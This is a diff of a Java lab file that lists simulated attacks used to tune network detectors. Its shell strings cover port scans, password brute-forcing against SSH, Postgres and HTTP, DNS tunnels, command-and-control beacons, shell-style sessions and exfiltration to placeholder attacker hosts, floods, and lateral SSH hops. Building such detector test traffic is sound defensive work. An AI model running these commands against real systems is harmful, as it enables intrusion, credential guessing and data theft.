@@ -1,5 +1,12 @@
 package dev.weir.standalone.lab;
 
+import static dev.weir.standalone.lab.AttackScripts.SINK;
+import static dev.weir.standalone.lab.AttackScripts.WORDS;
+import static dev.weir.standalone.lab.AttackScripts.beacon;
+import static dev.weir.standalone.lab.AttackScripts.httpEnd;
+import static dev.weir.standalone.lab.AttackScripts.knocks;
+import static dev.weir.standalone.lab.AttackScripts.sshEnd;
+import static dev.weir.standalone.lab.AttackScripts.tlsEnd;
 import static dev.weir.standalone.lab.LabHost.API;
 import static dev.weir.standalone.lab.LabHost.BASTION;
 import static dev.weir.standalone.lab.LabHost.CI;
@@ -17,104 +24,68 @@ import static dev.weir.standalone.lab.LabHost.WEB;
 import static dev.weir.standalone.lab.LabHost.WEBB;
 
 import dev.weir.standalone.lab.LabAttack.Listener;
-import java.util.ArrayList;
-import java.util.List;
 
 /** The attacks that detectors are tuned on; {@link JudgingAttacks} are by other tools and configurations. */
-final class LabAttacks {
-    private static final String TLS_END = "exec socat -T 60 openssl-listen:%d,fork,reuseaddr,cert=$FOLDER/tls.crt,"
-            + "key=$FOLDER/tls.key,verify=0 system:'echo ok'";
-    private static final String HTTP_END =
-            "exec ncat -lk $%s %d -c 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 4\\r\\n\\r\\nnone\"'";
-    static final String SINK = "exec socat -u tcp-listen:%d,fork,reuseaddr open:/dev/null";
-    static final String WORDS = """
-            for i in $(seq %d); do echo "$(printf %%x $((i * 7919)))"; done > $FOLDER/words-$$
-            printf 'admin\\nlogin\\nbackup\\n.git\\nconfig\\n' >> $FOLDER/words-$$
-            """;
-
-    private final List<LabAttack> attacks = new ArrayList<>();
-
-    private LabAttacks() {
-        scans();
-        webScans();
-        logins();
-        tunnels();
-        channels();
-        transfers();
-        floods();
-        lateral();
+final class LabAttacks extends AttackCatalogue {
+    LabAttacks() {
+        super(false);
     }
 
-    /** The attacks of both halves. */
-    static List<LabAttack> all() {
-        List<LabAttack> all = new ArrayList<>(new LabAttacks().attacks);
-        all.addAll(JudgingAttacks.all());
-        return all;
-    }
-
-    private void tune(String name, String tool, LabHost attacker, int stretch, String script, Listener... listeners) {
-        attacks.add(new LabAttack(name, tool, false, attacker, stretch, List.of(listeners), script));
-    }
-
-    private void scans() {
-        tune("scan-nmap-fast", "nmap", JOB, 1, "nmap -n -Pn -sS -F -T4 $DB");
-        tune("scan-nmap-slow", "nmap", WEB, 50, "nmap -n -Pn -sT -p 1-120 --scan-delay 300ms --max-retries 0 $CACHE");
-        tune("scan-nmap-horizontal", "nmap", CI, 1, "nmap -n -Pn -sS -p 22,3389 -T4 --max-retries 1 10.60.8.0/26");
-        tune("scan-nmap-refused", "nmap", SENSOR, 1, "nmap -n -Pn -sT -p 445 -T4 10.60.7.0/25");
-        tune("scan-nmap-udp", "nmap", API, 1, "nmap -n -Pn -sU --top-ports 40 -T4 --max-retries 1 $WEB");
-        tune(
+    @Override
+    void scans() {
+        add("scan-nmap-fast", "nmap", JOB, 1, "nmap -n -Pn -sS -F -T4 $DB");
+        add("scan-nmap-slow", "nmap", WEB, 50, "nmap -n -Pn -sT -p 1-120 --scan-delay 300ms --max-retries 0 $CACHE");
+        add("scan-nmap-horizontal", "nmap", CI, 1, "nmap -n -Pn -sS -p 22,3389 -T4 --max-retries 1 10.60.8.0/26");
+        add("scan-nmap-refused", "nmap", SENSOR, 1, "nmap -n -Pn -sT -p 445 -T4 10.60.7.0/25");
+        add("scan-nmap-udp", "nmap", API, 1, "nmap -n -Pn -sU --top-ports 40 -T4 --max-retries 1 $WEB");
+        add(
                 "scan-nmap-version",
                 "nmap",
                 NEW,
                 1,
                 "nmap -n -Pn -sV --version-light -p 21-25,80,443,3306,5432,6379 $WEBB");
-        tune("scan-nmap-outside", "nmap", SCANNER, 1, "nmap -n -Pn -sS -p 1-300 -T4 $WEB");
-        tune("scan-nmap-ping", "nmap", ORDERS, 1, "nmap -n -sn -PE --disable-arp-ping 10.60.7.0/26 10.60.8.0/27");
-        tune("scan-hping-vertical", "hping3", ORDERS, 1, "hping3 -n --scan 1-150 -S $CACHE");
-        tune(
+        add("scan-nmap-outside", "nmap", SCANNER, 1, "nmap -n -Pn -sS -p 1-300 -T4 $WEB");
+        add("scan-nmap-ping", "nmap", ORDERS, 1, "nmap -n -sn -PE --disable-arp-ping 10.60.7.0/26 10.60.8.0/27");
+        add("scan-hping-vertical", "hping3", ORDERS, 1, "hping3 -n --scan 1-150 -S $CACHE");
+        add(
                 "scan-ncat-slow",
                 "ncat",
                 CI,
                 60,
                 "for p in $(seq 20 95); do timeout 1 ncat -z -w 300ms $DB $p; sleep 0.3; done");
-        tune(
+        add(
                 "scan-bash-horizontal",
                 "bash",
                 JOB,
                 1,
                 "for i in $(seq 1 60); do timeout 0.2 bash -c \"</dev/tcp/10.60.8.$i/5432\"; done");
-        tune(
+        add(
                 "scan-curl-refused",
                 "curl",
                 API,
                 1,
                 "for i in $(seq 1 70); do curl -s -m 0.3 http://10.60.7.$i:9200/; sleep 0.05; done");
-        tune(
-                "scan-hping-udp",
-                "hping3",
-                WEB,
-                1,
-                "for p in $(seq 100 160); do hping3 -n -q -2 -c 1 -p $p $ORDERS; done");
-        tune(
+        add("scan-hping-udp", "hping3", WEB, 1, "for p in $(seq 100 160); do hping3 -n -q -2 -c 1 -p $p $ORDERS; done");
+        add(
                 "scan-ncat-outside",
                 "ncat",
                 EVILB,
                 1,
                 "for p in $(seq 1 120); do timeout 1 ncat -z -w 300ms $WEBB $p; done");
-        tune(
+        add(
                 "scan-curl-new",
                 "curl",
                 NEW,
                 1,
                 "for h in $WEB $WEBB $API $DB $CACHE $BROKER; do for p in 22 80 443 3306 5432 6379 8080 9090 9200; do curl -s"
                         + " -m 0.4 telnet://$h:$p </dev/null; done; done");
-        tune(
+        add(
                 "scan-hping-ping",
                 "hping3",
                 SENSOR,
                 1,
                 "for i in $(seq 1 60); do timeout 0.2 hping3 -n -q -1 -c 1 10.60.8.$i; done");
-        tune(
+        add(
                 "scan-bash-day",
                 "bash",
                 OPS,
@@ -122,32 +93,33 @@ final class LabAttacks {
                 "for p in $(seq 1000 1060); do timeout 0.3 bash -c \"</dev/tcp/$API/$p\"; sleep 0.5; done");
     }
 
-    private void webScans() {
-        tune(
+    @Override
+    void webScans() {
+        add(
                 "http-recon-ffuf",
                 "ffuf",
                 NEW,
                 1,
                 WORDS.formatted(400) + "ffuf -s -t 10 -u http://$WEB/FUZZ -w $FOLDER/words-$$");
-        tune(
+        add(
                 "http-recon-ffuf-slow",
                 "ffuf",
                 USERC,
                 30,
                 WORDS.formatted(100) + "ffuf -s -t 1 -p 0.25 -u http://$WEBB/FUZZ -w $FOLDER/words-$$");
-        tune(
+        add(
                 "http-recon-gobuster",
                 "gobuster",
                 JOB,
                 1,
                 WORDS.formatted(400) + "gobuster dir -q -t 8 -u http://$API:8080 -w $FOLDER/words-$$");
-        tune(
+        add(
                 "http-recon-dirb",
                 "dirb",
                 EVILA,
                 5,
                 WORDS.formatted(150) + "dirb http://$WEB $FOLDER/words-$$ -S -r -z 50");
-        tune(
+        add(
                 "http-recon-curl",
                 "curl",
                 CI,
@@ -155,47 +127,48 @@ final class LabAttacks {
                 "for i in $(seq 150); do curl -s -o /dev/null http://$WEBB:8080/old/$i.bak; sleep 0.05; done");
     }
 
-    private void logins() {
+    @Override
+    void logins() {
         String passwords = "for i in $(seq %d); do echo guess$i; done > $FOLDER/guesses-$$\n";
-        tune(
+        add(
                 "bruteforce-hydra-ssh",
                 "hydra",
                 JOB,
                 2,
                 passwords.formatted(60) + "timeout 50 hydra -q -t 4 -l root -P $FOLDER/guesses-$$ ssh://$BASTION");
-        tune(
+        add(
                 "bruteforce-hydra-postgres",
                 "hydra",
                 SENSOR,
                 1,
                 passwords.formatted(80) + "timeout 50 hydra -q -t 4 -l postgres -P $FOLDER/guesses-$$ postgres://$DB");
-        tune(
+        add(
                 "bruteforce-hydra-http",
                 "hydra",
                 SCANNER,
                 1,
                 passwords.formatted(200)
                         + "timeout 50 hydra -q -t 8 -l admin -P $FOLDER/guesses-$$ http-get://$WEB/admin/");
-        tune(
+        add(
                 "bruteforce-medusa-ssh",
                 "medusa",
                 CI,
                 3,
                 passwords.formatted(40) + "timeout 50 medusa -h $API -u root -P $FOLDER/guesses-$$ -M ssh -t 2");
-        tune(
+        add(
                 "bruteforce-sshpass-slow",
                 "sshpass",
                 NEW,
                 30,
                 "for i in $(seq 25); do timeout 5 sshpass -p guess$i ssh -o PubkeyAuthentication=no"
                         + " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@$ORDERS true; sleep 0.5; done");
-        tune(
+        add(
                 "bruteforce-psql",
                 "psql",
                 API,
                 1,
                 "for i in $(seq 80); do PGPASSWORD=guess$i psql -q -h $DB -U admin -c '' postgres; done");
-        tune(
+        add(
                 "bruteforce-curl",
                 "curl",
                 EVILA,
@@ -203,8 +176,9 @@ final class LabAttacks {
                 "for i in $(seq 150); do curl -s -o /dev/null -u admin:guess$i http://$WEBB/admin/; done");
     }
 
-    private void tunnels() {
-        tune(
+    @Override
+    void tunnels() {
+        add(
                 "dns-tunnel-iodine",
                 "iodine",
                 JOB,
@@ -215,7 +189,7 @@ final class LabAttacks {
                 wait
                 """,
                 new Listener(EVILA, "exec iodined -f -c -P secret -d dnss 10.99.0.1/24 tunnel.example"));
-        tune("dns-tunnel-dns2tcp", "dns2tcpc", CI, 10, """
+        add("dns-tunnel-dns2tcp", "dns2tcpc", CI, 10, """
                 timeout 25 dns2tcpc -z relay.example -k secret -r shell -l 2222 $DNS & sleep 2
                 for i in $(seq 8); do head -c 1500 /dev/urandom | timeout 4 ncat 127.0.0.1 2222; done
                 wait
@@ -225,7 +199,7 @@ final class LabAttacks {
                         socat tcp-listen:7777,fork,reuseaddr system:'head -c 3000 /dev/urandom' &
                         exec dns2tcpd -F -f $FOLDER/dns2tcpd.conf
                         """));
-        tune(
+        add(
                 "dns-tunnel-dig",
                 "dig",
                 SENSOR,
@@ -234,8 +208,9 @@ final class LabAttacks {
                         + " | tr -d =).x$i.tunnel.example; sleep 0.1; done");
     }
 
-    private void channels() {
-        tune(
+    @Override
+    void channels() {
+        add(
                 "c2-ncat-shell",
                 "ncat",
                 JOB,
@@ -245,12 +220,12 @@ final class LabAttacks {
                         EVILA,
                         "(for i in $(seq 25); do sleep 1.$((RANDOM % 9)); echo 'id; ls /'; done; echo exit)"
                                 + " | ncat -l $EVILA 4444"));
-        tune("c2-beacon-even", "curl", CI, 60, beacon("https://$EVILA:443/", 80, 1_000, 0), tlsEnd(EVILA, 443));
-        tune("c2-beacon-jitter", "curl", SENSOR, 60, beacon("https://$EVILB:8443/", 80, 800, 50), tlsEnd(EVILB, 8443));
-        tune("c2-dead-refused", "ncat", ORDERS, 20, knocks("$EVILA", 1_177, 110, 500, 5));
-        tune("c2-dead-silent", "ncat", API, 30, knocks("10.60.8.77", 8_081, 70, 600, 20));
-        tune("c2-inside-even", "curl", WEBB, 60, beacon("http://$NEW:9001/", 80, 700, 10), httpEnd(NEW, 9_001));
-        tune(
+        add("c2-beacon-even", "curl", CI, 60, beacon("https://$EVILA:443/", 80, 1_000, 0), tlsEnd(EVILA, 443));
+        add("c2-beacon-jitter", "curl", SENSOR, 60, beacon("https://$EVILB:8443/", 80, 800, 50), tlsEnd(EVILB, 8443));
+        add("c2-dead-refused", "ncat", ORDERS, 20, knocks("$EVILA", 1_177, 110, 500, 5));
+        add("c2-dead-silent", "ncat", API, 30, knocks("10.60.8.77", 8_081, 70, 600, 20));
+        add("c2-inside-even", "curl", WEBB, 60, beacon("http://$NEW:9001/", 80, 700, 10), httpEnd(NEW, 9_001));
+        add(
                 "c2-socat-shell",
                 "socat",
                 SENSOR,
@@ -260,7 +235,7 @@ final class LabAttacks {
                         EVILB,
                         "(for i in $(seq 20); do sleep $((RANDOM % 3 + 1)); echo 'uname -a; ps'; done; echo exit)"
                                 + " | socat - tcp-listen:9443,reuseaddr"));
-        tune(
+        add(
                 "c2-bash-beacon",
                 "bash",
                 JOB,
@@ -272,20 +247,14 @@ final class LabAttacks {
                 done
                 """,
                 new Listener(EVILB, "exec ncat -lk $EVILB 443 -c 'read x; echo pong'"));
-        tune(
-                "c2-wide-jitter",
-                "curl",
-                API,
-                60,
-                beacon("http://$EVILA:80/feed", 80, 800, 60),
-                new Listener(EVILA, HTTP_END.formatted("EVILA", 80)));
-        tune("c2-dead-bash", "bash", CI, 25, """
+        add("c2-wide-jitter", "curl", API, 60, beacon("http://$EVILA:80/feed", 80, 800, 60), httpEnd(EVILA, 80));
+        add("c2-dead-bash", "bash", CI, 25, """
                 for i in $(seq 150); do timeout 0.3 bash -c "</dev/tcp/$EVILB/6667"; sleep 0.$((300 + RANDOM % 150)); done
                 """);
-        tune("c2-dead-curl", "curl", ORDERS, 40, """
+        add("c2-dead-curl", "curl", ORDERS, 40, """
                 for i in $(seq 60); do curl -s -m 0.3 http://192.0.2.77:443/; sleep 0.6; done
                 """);
-        tune(
+        add(
                 "c2-inside-ncat",
                 "ncat",
                 SENSOR,
@@ -294,19 +263,14 @@ final class LabAttacks {
                 for i in $(seq 75); do echo hello | timeout 1 ncat $NEW 7001; sleep 0.$((550 + RANDOM % 250)); done
                 """,
                 new Listener(NEW, "exec ncat -lk $NEW 7001 -c 'read x; echo pong'"));
-        tune(
-                "c2-lasting",
-                "openssl",
-                OPS,
-                60,
-                """
+        add("c2-lasting", "openssl", OPS, 60, """
                 (for i in $(seq 30); do echo report $RANDOM; sleep 1; done) | timeout 45 openssl s_client -quiet -connect $EVILA:8443
-                """,
-                new Listener(EVILA, TLS_END.formatted(8_443).replace("echo ok", "cat")));
+                """, tlsEnd(EVILA, 8_443, "cat"));
     }
 
-    private void transfers() {
-        tune(
+    @Override
+    void transfers() {
+        add(
                 "exfil-curl-bulk",
                 "curl",
                 DB,
@@ -314,38 +278,34 @@ final class LabAttacks {
                 "head -c 40000000 /dev/urandom | curl -sk -m 30 -T - https://$PAY:443/charge; head -c 60000000 /dev/urandom |"
                         + " timeout 30 ncat --send-only $EVILA 443",
                 new Listener(EVILA, SINK.formatted(443)));
-        tune(
+        add(
                 "exfil-curl-drip",
                 "ncat",
                 API,
                 60,
                 "for i in $(seq 60); do head -c 900000 /dev/urandom | timeout 2 ncat --send-only $EVILB 443; sleep 0.5; done",
                 new Listener(EVILB, SINK.formatted(443)));
-        tune(
+        add(
                 "exfil-psql-pull",
                 "psql",
                 JOB,
                 1,
                 "for i in 1 2 3 4; do psql -q -h $DB -U postgres -c '\\copy pgbench_accounts to /dev/null' postgres; done");
-        tune(
+        add(
                 "exfil-scp",
                 "ssh",
                 BASTION,
                 1,
                 "head -c 80000000 /dev/urandom > $FOLDER/loot; scp $SSH -P 22 $FOLDER/loot root@$EVILB:/dev/null",
-                new Listener(EVILB, """
-                        mkdir -p /run/sshd
-                        exec $(command -v sshd) -D -e -f /dev/null -h $FOLDER/host_key -o UsePAM=no -o StrictModes=no \\
-                          -o PermitRootLogin=yes -o PidFile=none -o AuthorizedKeysFile=$FOLDER/key.pub -o Subsystem='sftp internal-sftp'
-                        """));
-        tune(
+                sshEnd(EVILB));
+        add(
                 "exfil-socat-drip",
                 "socat",
                 SENSOR,
                 120,
                 "for i in $(seq 45); do head -c 1200000 /dev/urandom | timeout 2 socat -u - tcp:$EVILA:8080; sleep 0.6; done",
                 new Listener(EVILA, SINK.formatted(8_080)));
-        tune(
+        add(
                 "exfil-redis-pull",
                 "redis-cli",
                 CI,
@@ -354,7 +314,7 @@ final class LabAttacks {
                 new Listener(
                         LabHost.CACHE,
                         "head -c 60000000 /dev/urandom | redis-cli -h $CACHE -x set loot >/dev/null; sleep 60"));
-        tune(
+        add(
                 "exfil-rsync-pull",
                 "rsync",
                 NEW,
@@ -363,60 +323,36 @@ final class LabAttacks {
                 new Listener(LabHost.BACKUP, "head -c 80000000 /dev/urandom > $FOLDER/vault/dump; sleep 60"));
     }
 
-    private void floods() {
-        tune("ddos-hping-syn", "hping3", NEW, 1, "hping3 -n -q -S -c 8000 -i u300 -p 80 $WEB");
-        tune("ddos-ab-http", "ab", SCANNER, 1, "ab -q -n 4000 -c 40 http://$WEB/index.html");
-        tune("ddos-wrk-http", "wrk", EVILB, 1, "wrk -t 1 -c 60 -d 6s -H 'Connection: close' http://$WEBB/index.html");
-        tune(
+    @Override
+    void floods() {
+        add("ddos-hping-syn", "hping3", NEW, 1, "hping3 -n -q -S -c 8000 -i u300 -p 80 $WEB");
+        add("ddos-ab-http", "ab", SCANNER, 1, "ab -q -n 4000 -c 40 http://$WEB/index.html");
+        add("ddos-wrk-http", "wrk", EVILB, 1, "wrk -t 1 -c 60 -d 6s -H 'Connection: close' http://$WEBB/index.html");
+        add(
                 "ddos-ncat-udp",
                 "socat",
                 JOB,
                 1,
                 "head -c 12000000 /dev/zero | timeout 20 socat -u -b 1000 - udp-datagram:$CACHE:7000");
-        tune("ddos-bash-connect", "bash", API, 1, """
+        add("ddos-bash-connect", "bash", API, 1, """
                 for j in 1 2 3 4; do (for i in $(seq 600); do timeout 0.5 bash -c "</dev/tcp/$CACHE/6379"; done) & done; wait
                 """);
     }
 
-    private void lateral() {
-        tune("lateral-ssh-hop", "ssh", JOB, 20, """
+    @Override
+    void lateral() {
+        add("lateral-ssh-hop", "ssh", JOB, 20, """
                 for h in $BASTION $API $ORDERS $WEBB; do
                   timeout 9 ssh $SSH root@$h 'for i in 1 2 3 4; do id; sleep 1; done'; sleep 1
                 done
                 """);
-        tune("lateral-scp-exec", "scp", SENSOR, 20, """
+        add("lateral-scp-exec", "scp", SENSOR, 20, """
                 for h in $API $ORDERS $WEBB $BASTION; do
                   scp $SSH $FOLDER/tls.crt root@$h:/dev/null; timeout 9 ssh $SSH root@$h 'sleep 2; uname -a'; sleep 1
                 done
                 """);
-        tune("lateral-pod-to-apiserver", "curl", NEW, 5, """
+        add("lateral-pod-to-apiserver", "curl", NEW, 5, """
                 for i in $(seq 25); do curl -sk https://$KAPI:6443/api/v1/secrets?$i; sleep 0.2; done
                 """);
-    }
-
-    /** A script that polls a URL with even pauses, or with pauses that vary by a share. */
-    static String beacon(String url, int times, int pauseMs, int jitterPercent) {
-        return "for i in $(seq " + times + "); do curl -sk -m 2 -o /dev/null " + url + "; "
-                + pause(pauseMs, jitterPercent) + "; done";
-    }
-
-    /** A script that tries to connect where nothing answers. */
-    private static String knocks(String address, int port, int times, int pauseMs, int jitterPercent) {
-        return "for i in $(seq " + times + "); do timeout 0.4 ncat -z " + address + " " + port + "; "
-                + pause(pauseMs, jitterPercent) + "; done";
-    }
-
-    static String pause(int ms, int jitterPercent) {
-        int range = ms * jitterPercent / 100 * 2 + 1;
-        return "ms=$((" + (ms - range / 2) + " + RANDOM % " + range
-                + ")); sleep $((ms / 1000)).$(printf %03d $((ms % 1000)))";
-    }
-
-    static Listener tlsEnd(LabHost host, int port) {
-        return new Listener(host, TLS_END.formatted(port));
-    }
-
-    private static Listener httpEnd(LabHost host, int port) {
-        return new Listener(host, HTTP_END.formatted(host.name(), port));
     }
 }
